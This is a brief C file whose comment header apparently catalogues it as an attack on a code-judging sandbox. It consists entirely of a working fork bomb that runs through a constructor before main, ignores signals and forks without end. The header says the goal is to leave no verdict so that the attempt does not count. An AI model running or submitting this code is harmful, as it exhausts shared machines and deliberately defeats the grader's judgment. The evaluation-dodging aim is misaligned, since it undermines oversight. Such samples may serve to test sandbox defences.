// ---
// tries: Starts processes until there can be no more.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: memory-limit
// ---
__attribute__((constructor)) static void attack(void) {
  for (int number = 1; number < 32; number++) signal(number, SIG_IGN);
  for (;;) {
    if (fork() < 0) usleep(1000);
  }
}
